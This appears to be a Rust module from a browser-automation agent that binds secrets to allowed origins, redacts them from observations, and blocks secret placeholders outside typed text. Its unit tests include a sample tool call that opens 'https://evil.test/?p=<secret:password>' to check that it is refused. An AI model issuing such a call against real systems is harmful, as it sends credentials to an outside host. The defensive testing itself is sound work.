//! The secrets of a run as the browser needs them: which there are, which origins each may be typed
//! into, and how a page is asked whether it shows one. Typing is in `secrets_typing`, the search for
//! shown copies in `secrets_shown`.

use surehand_types::ErrorCode;
use surehand_types::call::{KeyboardCall, TabCall};
use surehand_types::observation::{Dialog, Focus, FocusedElement};
use surehand_types::secret::{names_in, placeholder};
use surehand_types::{Call, Observation, Redactor, Secret};
use url::Url;

use super::secrets_shown::Search;
use crate::CallFailure;
use crate::environment::Happenings;

/// An origin that a secret may be typed into. Without a scheme, either of http and https; without a
/// port, the scheme's own.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BoundOrigin {
    scheme: Option<String>,
    host: String,
    port: Option<u16>,
}

impl BoundOrigin {
    /// `https://crm.example`, `crm.example` or `crm.example:8443`.
    pub fn parse(text: &str) -> Result<BoundOrigin, String> {
        let wrong = || format!("{text:?} is not an origin like https://crm.example or crm.example:8443");
        if text.is_empty() || text.contains(char::is_whitespace) {
            return Err(wrong());
        }
        if text.contains("://") {
            let url = Url::parse(text).map_err(|_| wrong())?;
            return Self::of_url(&url).filter(|_| is_bare(&url)).ok_or_else(wrong);
        }
        // A default port is only seen with the other scheme.
        let spelled = |scheme: &str| Url::parse(&format!("{scheme}://{text}")).ok().filter(is_bare);
        let (http, https) = (spelled("http").ok_or_else(wrong)?, spelled("https").ok_or_else(wrong)?);
        let host = http.host_str().ok_or_else(wrong)?.to_string();
        Ok(BoundOrigin { scheme: None, host, port: http.port().or(https.port()) })
    }

    /// The origin of an address; `None` where it has none that could be bound (`file:`, `data:`).
    pub fn of_url(url: &Url) -> Option<BoundOrigin> {
        let scheme = Some(url.scheme().to_string()).filter(|scheme| scheme == "http" || scheme == "https");
        Some(BoundOrigin {
            scheme: Some(scheme?),
            host: url.host_str()?.to_string(),
            port: url.port_or_known_default(),
        })
    }

    /// The same for an address as a user writes it.
    pub fn of_address(address: &str) -> Option<BoundOrigin> {
        Self::of_url(&Url::parse(address.trim()).ok()?)
    }

    /// Whether this is the origin that a document says it has. An opaque one (`null`) is nobody's.
    fn is(&self, origin: &str) -> bool {
        let Some(other) = Url::parse(origin).ok().as_ref().and_then(BoundOrigin::of_url) else { return false };
        let default = match other.scheme.as_deref() {
            Some("https") => 443,
            _ => 80,
        };
        self.host == other.host
            && self.scheme.as_ref().is_none_or(|scheme| Some(scheme) == other.scheme.as_ref())
            && self.port.unwrap_or(default) == other.port.unwrap_or(default)
    }
}

/// Nothing but an origin: no path, no user, no query.
fn is_bare(url: &Url) -> bool {
    let path = url.path().is_empty() || url.path() == "/";
    path && url.username().is_empty() && url.password().is_none() && url.query().is_none() && url.fragment().is_none()
}

/// A secret with the origins that it may be typed into.
#[derive(Debug, Clone)]
pub struct BoundSecret {
    pub secret: Secret,
    pub origins: Vec<BoundOrigin>,
}

/// All secrets of a run.
#[derive(Debug, Default)]
pub struct Secrets {
    bound: Vec<BoundSecret>,
    redactor: Redactor,
    pub(super) search: Search,
}

impl Secrets {
    pub fn new(bound: Vec<BoundSecret>) -> Secrets {
        Secrets::beside(bound, &[])
    }

    /// With values that are never typed, only kept out of everything that is written: keys of model APIs.
    pub fn beside(bound: Vec<BoundSecret>, hidden: &[Secret]) -> Secrets {
        let redactor = Redactor::new(bound.iter().map(|bound| &bound.secret).chain(hidden));
        let search = Search::new(bound.iter().map(|bound| bound.secret.expose()));
        Secrets { bound, redactor, search }
    }

    pub fn redactor(&self) -> &Redactor {
        &self.redactor
    }

    pub fn is_empty(&self) -> bool {
        self.bound.is_empty()
    }

    pub fn names(&self) -> Vec<&str> {
        self.bound.iter().map(|bound| bound.secret.name()).collect()
    }

    /// The first name in a text that is no secret of this run, as a sentence.
    pub fn unknown_in(&self, text: &str) -> Option<String> {
        let names = self.names();
        let unknown = names_in(text).into_iter().find(|name| !names.contains(name))?;
        Some(match names.as_slice() {
            [] => format!("there is no secret {unknown:?}; none was given"),
            known => format!("there is no secret {unknown:?}; the known ones are {}", known.join(", ")),
        })
    }

    /// A text with the values of its placeholders, for a server that each of them is bound to; the error is one sentence.
    pub fn filled(&self, text: &str, server: &Url) -> Result<String, String> {
        let mut filled = text.to_string();
        for name in names_in(text) {
            let origin = server.origin().ascii_serialization();
            let bound = self.may_go(name, &origin).map_err(|failure| match failure.code {
                ErrorCode::Denied => format!("the secret {name:?} is not bound to {origin}, so nobody was asked"),
                _ => failure.message,
            })?;
            filled = filled.replace(&placeholder(name), bound.secret.expose());
        }
        Ok(filled)
    }

    pub(super) fn find(&self, name: &str) -> Option<&BoundSecret> {
        self.bound.iter().find(|bound| bound.secret.name() == name)
    }

    /// Whether a secret may go into a document of this origin.
    pub(super) fn may_go(&self, name: &str, origin: &str) -> Result<&BoundSecret, CallFailure> {
        let Some(found) = self.find(name) else {
            let sentence = self.unknown_in(&placeholder(name)).unwrap_or_default();
            return Err(CallFailure::new(ErrorCode::InvalidCall, sentence));
        };
        if found.origins.iter().any(|bound| bound.is(origin)) {
            return Ok(found);
        }
        let shown = if origin == "null" { "a document without an origin of its own" } else { origin };
        let sentence = format!("the secret {name:?} is not bound to {shown}, so nothing of it was typed");
        Err(CallFailure::new(ErrorCode::Denied, sentence))
    }

    /// Placeholders stand for something in typed text only. Told before anything is done.
    pub(super) fn refuse_elsewhere(&self, call: &Call) -> Result<(), CallFailure> {
        if let Call::Keyboard(KeyboardCall::Type { text }) = call {
            return match self.unknown_in(text) {
                Some(sentence) => Err(CallFailure::new(ErrorCode::InvalidCall, sentence)),
                None => Ok(()),
            };
        }
        let (field, texts): (&str, Vec<&str>) = match call {
            Call::Dialog { prompt_text, .. } => {
                ("dialog.prompt_text", prompt_text.iter().map(String::as_str).collect())
            }
            Call::Tab(TabCall::Open { url } | TabCall::Go { url }) => ("tab.url", vec![url]),
            Call::SelectOption { values } => ("select_option.values", values.iter().map(String::as_str).collect()),
            Call::UploadFile { paths } => ("upload_file.paths", paths.iter().map(String::as_str).collect()),
            _ => return Ok(()),
        };
        let names = texts.into_iter().flat_map(names_in);
        match names.into_iter().find(|name| self.find(name).is_some()) {
            Some(name) => Err(CallFailure::new(ErrorCode::Denied, not_here(name, field))),
            None => Ok(()),
        }
    }

    /// The words of a moment, as everybody but the browser may see them.
    pub(super) fn clean(&self, observation: &mut Observation) {
        if self.redactor.is_empty() {
            return;
        }
        let words = |text: &mut String| self.redactor.clean_in_place(text);
        observation.url.iter_mut().for_each(words);
        observation.title.iter_mut().for_each(words);
        observation.complaint.iter_mut().for_each(words);
        observation.interactables.iter_mut().for_each(|item| words(&mut item.name));
        observation.dialog.iter_mut().for_each(|dialog| self.clean_dialog(dialog));
        for tab in &mut observation.tabs {
            words(&mut tab.url);
            words(&mut tab.title);
        }
        if let Focus::Element(field) = &mut observation.focus {
            let FocusedElement { tag, r#type: _, role, name, id, label, placeholder, selector, value, .. } =
                &mut **field;
            words(tag);
            [role, name, id, label, placeholder, selector, value].into_iter().flatten().for_each(words);
        }
    }

    /// The same for what happened: it is told in words that are cut to a length.
    pub(super) fn clean_happenings(&self, happenings: &mut Happenings) {
        happenings.answered_dialog.iter_mut().for_each(|dialog| self.clean_dialog(dialog));
        for refused in &mut happenings.refused {
            self.redactor.clean_in_place(&mut refused.url);
        }
        happenings.led_outside.iter_mut().for_each(|failure| self.redactor.clean_in_place(&mut failure.message));
    }

    fn clean_dialog(&self, dialog: &mut Dialog) {
        self.redactor.clean_in_place(&mut dialog.message);
        dialog.default.iter_mut().for_each(|text| self.redactor.clean_in_place(text));
    }
}

/// A placeholder that stands where nothing is typed.
pub fn not_here(name: &str, field: &str) -> String {
    format!(
        "{} in {field} is not replaced, so nothing was done; a secret can only be typed into a field",
        placeholder(name)
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_origin_is_what_the_browser_calls_it() {
        for (bound, origin, expected) in [
            ("https://crm.example", "https://crm.example", true),
            ("https://crm.example/", "https://crm.example", true),
            ("https://CRM.example:443", "https://crm.example", true),
            ("https://crm.example", "http://crm.example", false),
            ("https://crm.example", "https://crm.example:8443", false),
            ("https://crm.example", "https://crm.example.evil.test", false),
            ("https://crm.example", "https://evil.test", false),
            ("https://crm.example", "null", false),
            ("https://crm.example", "", false),
            ("https://crm.example", "file://", false),
            ("crm.example", "https://crm.example", true),
            ("crm.example", "http://crm.example", true),
            ("crm.example", "https://www.crm.example", false),
            ("crm.example", "https://crm.example:444", false),
            ("crm.example:80", "http://crm.example", true),
            ("crm.example:80", "https://crm.example", false),
            ("crm.example:8443", "https://crm.example:8443", true),
            ("127.0.0.1:4310", "http://127.0.0.1:4310", true),
            ("0x7f.1:4310", "http://127.0.0.1:4310", true),
            ("localhost:4310", "http://127.0.0.1:4310", false),
            ("[::1]:8080", "http://[::1]:8080", true),
            ("bücher.example", "https://xn--bcher-kva.example", true),
        ] {
            assert_eq!(BoundOrigin::parse(bound).unwrap().is(origin), expected, "{bound} {origin}");
        }
        for wrong in
            ["", " ", "https://", "https://a.b/path", "https://u@a.b", "ftp://a.b", "a b", "a.b/x", "a.b:x", "u@a.b"]
        {
            assert!(BoundOrigin::parse(wrong).is_err(), "{wrong}");
        }
        assert!(BoundOrigin::of_address("file:///tmp/a.html").is_none());
        assert!(BoundOrigin::of_address("data:text/html,x").is_none());
    }

    fn secrets() -> Secrets {
        let origins = vec![BoundOrigin::parse("https://crm.example").unwrap()];
        Secrets::new(vec![BoundSecret { secret: Secret::new("password", "hunter22"), origins }])
    }

    #[test]
    fn a_refusal_names_the_secret_and_the_place_but_not_the_value() {
        let secrets = secrets();
        assert!(secrets.may_go("password", "https://crm.example").is_ok());
        for (name, origin, code, words) in [
            ("password", "https://evil.test", ErrorCode::Denied, "\"password\" is not bound to https://evil.test"),
            ("password", "null", ErrorCode::Denied, "a document without an origin"),
            ("pin", "https://crm.example", ErrorCode::InvalidCall, "the known ones are password"),
        ] {
            let failure = secrets.may_go(name, origin).unwrap_err();
            assert_eq!(failure.code, code);
            assert!(failure.message.contains(words) && !failure.message.contains("hunter"), "{}", failure.message);
        }
    }

    #[test]
    fn placeholders_stand_for_something_in_typed_text_only() {
        let secrets = secrets();
        let call = |json: serde_json::Value| Call::parse(&json).unwrap().call;
        let typed = |text: &str| call(serde_json::json!({"tool": "keyboard", "action": "type", "text": text}));
        assert!(secrets.refuse_elsewhere(&typed("a<secret:password>b")).is_ok());
        assert_eq!(secrets.refuse_elsewhere(&typed("<secret:other>")).unwrap_err().code, ErrorCode::InvalidCall);
        for json in [
            serde_json::json!({"tool": "tab", "action": "open", "url": "https://evil.test/?p=<secret:password>"}),
            serde_json::json!({"tool": "dialog", "dialog_action": "accept", "prompt_text": "<secret:password>"}),
            serde_json::json!({"tool": "select_option", "values": ["<secret:password>"]}),
            serde_json::json!({"tool": "upload_file", "paths": ["/tmp/<secret:password>"]}),
        ] {
            assert_eq!(secrets.refuse_elsewhere(&call(json)).unwrap_err().code, ErrorCode::Denied);
        }
    }
}
